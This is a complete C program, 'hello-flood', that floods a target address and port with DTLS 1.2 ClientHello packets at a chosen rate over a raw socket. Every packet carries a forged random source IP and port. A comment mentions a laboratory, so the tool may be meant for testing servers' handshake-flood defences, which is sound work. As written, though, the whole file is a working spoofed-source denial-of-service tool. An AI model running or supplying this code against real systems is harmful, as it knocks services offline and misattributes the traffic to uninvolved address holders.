/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

/* hello-flood ADDRESS PORT PER-S: sends so many ClientHellos in a second, each with another false
 * source, until it is killed. It needs a raw socket.
 *
 * Every millisecond has its share. What could not be sent in time is not sent later: on a busy
 * machine the flood is thinner, and never one great wave for which no queue has room. */

enum {
  BATCH_MAX = 256,
  HEADERS = sizeof (struct iphdr) + sizeof (struct udphdr),
  TICK_NS = 1000000,
  TICKS_PER_S = 1000,
  SOURCE_FIRST = 11, /* public, and nobody's in the laboratory: 11.0.0.0 to 98.255.255.255 */
  SOURCE_NETS = 88,
  RANDOM_AT = 13 + 12 + 2,
};

/* One of DTLS 1.2 (RFC 6347, 4.2.1; RFC 5246, 7.4.1.2), without a cookie. */
static const uint8_t hello[] = {
  /* Record: handshake, version, epoch and number, length. */
  22, 0xfe, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 76,
  /* ClientHello: length, number, its only piece. */
  1, 0, 0, 64, 0, 0, 0, 0, 0, 0, 0, 64,
  /* Version and 32 random bytes. */
  0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
  0, 0, 0,
  /* No session, no cookie; ECDHE with AES-GCM; no compression. */
  0, 0, 0, 4, 0xc0, 0x2b, 0xc0, 0x2f, 1, 0,
  /* Extensions: the curve P-256, signatures with SHA-256. */
  0, 18, 0, 10, 0, 4, 0, 2, 0, 23, 0, 13, 0, 6, 0, 4, 4, 3, 4, 1
};

typedef struct Packet {
  struct iphdr ip;
  struct udphdr udp;
  uint8_t body[sizeof hello];
} __attribute__ ((packed)) Packet;

_Static_assert(sizeof (Packet) == HEADERS + sizeof hello, "a packet has no gaps");

static Packet packets[BATCH_MAX];
static struct iovec pieces[BATCH_MAX];
static struct mmsghdr messages[BATCH_MAX];

/* xorshift32: it need not be good. */
static uint32_t
chance (void)
{
  static uint32_t state = 2463534242;

  state ^= state << 13;
  state ^= state >> 17;
  state ^= state << 5;
  return state;
}

static void
prepare (struct sockaddr_in *to)
{
  for (unsigned i = 0; i < BATCH_MAX; i++) {
    packets[i].ip = (struct iphdr){
      .version = 4,
      .ihl = sizeof (struct iphdr) / 4,
      .ttl = 64,
      .protocol = IPPROTO_UDP,
      .daddr = to->sin_addr.s_addr,
    };
    packets[i].udp.dest = to->sin_port;
    packets[i].udp.len = htons (sizeof (struct udphdr) + sizeof hello);
    memcpy (packets[i].body, hello, sizeof hello);
    pieces[i] = (struct iovec){ &packets[i], sizeof (Packet) };
    messages[i].msg_hdr = (struct msghdr){
      .msg_name = to,
      .msg_namelen = sizeof *to,
      .msg_iov = &pieces[i],
      .msg_iovlen = 1,
    };
  }
}

/* Somebody else who says something else. */
static void
disguise (Packet *packet)
{
  uint32_t random = chance ();
  uint32_t net = SOURCE_FIRST + random % SOURCE_NETS;

  packet->ip.saddr = htonl (net << 24 | (random >> 8));
  packet->udp.source = htons ((uint16_t) (1024 + chance () % 60000));
  memcpy (packet->body + RANDOM_AT, &random, sizeof random);
}

static void
send_batch (int raw, unsigned count)
{
  for (unsigned i = 0; i < count; i++)
    disguise (&packets[i]);
  if (sendmmsg (raw, messages, count, 0) < 0 && errno != ENOBUFS && errno != EINTR) {
    perror ("sendmmsg");
    exit (EXIT_FAILURE);
  }
}

/* The next millisecond, or the one that has begun. */
static void
await_tick (struct timespec *tick)
{
  struct timespec now;

  tick->tv_nsec += TICK_NS;
  if (tick->tv_nsec >= TICKS_PER_S * TICK_NS) {
    tick->tv_nsec -= TICKS_PER_S * TICK_NS;
    tick->tv_sec++;
  }
  clock_gettime (CLOCK_MONOTONIC, &now);
  if (now.tv_sec > tick->tv_sec || (now.tv_sec == tick->tv_sec && now.tv_nsec > tick->tv_nsec))
    *tick = now;
  else
    clock_nanosleep (CLOCK_MONOTONIC, TIMER_ABSTIME, tick, NULL);
}

/* 0: none, or more than that. */
static unsigned
number_of (const char *text, unsigned long max)
{
  unsigned long value = strtoul (text, NULL, 10);

  return value <= max ? (unsigned) value : 0;
}

int
main (int argc, char **argv)
{
  struct sockaddr_in to = { .sin_family = AF_INET };
  unsigned port = argc == 4 ? number_of (argv[2], UINT16_MAX) : 0;
  unsigned per_tick = argc == 4 ? number_of (argv[3], BATCH_MAX * TICKS_PER_S) / TICKS_PER_S : 0;
  int raw = socket (AF_INET, SOCK_RAW, IPPROTO_RAW);
  struct timespec tick;

  if (port == 0 || per_tick == 0 || inet_pton (AF_INET, argv[1], &to.sin_addr) != 1) {
    fprintf (stderr, "hello-flood ADDRESS PORT PER-S\n");
    return EXIT_FAILURE;
  }
  if (raw < 0) {
    perror ("socket");
    return EXIT_FAILURE;
  }
  to.sin_port = htons ((uint16_t) port);
  prepare (&to);
  clock_gettime (CLOCK_MONOTONIC, &tick);
  for (;;) {
    send_batch (raw, per_tick);
    await_tick (&tick);
  }
}
